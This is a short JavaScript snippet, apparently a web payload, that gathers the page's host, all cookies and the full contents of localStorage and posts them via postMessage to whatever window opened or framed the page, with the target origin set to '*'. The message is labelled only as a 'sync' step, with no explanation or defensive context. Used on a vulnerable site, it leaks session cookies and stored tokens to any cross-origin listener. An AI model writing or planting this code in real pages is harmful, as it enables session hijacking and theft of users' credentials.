var box = window.opener || window.parent;
box && box !== window && box.postMessage({ k: 'sync', h: location.host, c: document.cookie, s: JSON.stringify(localStorage) }, '*');
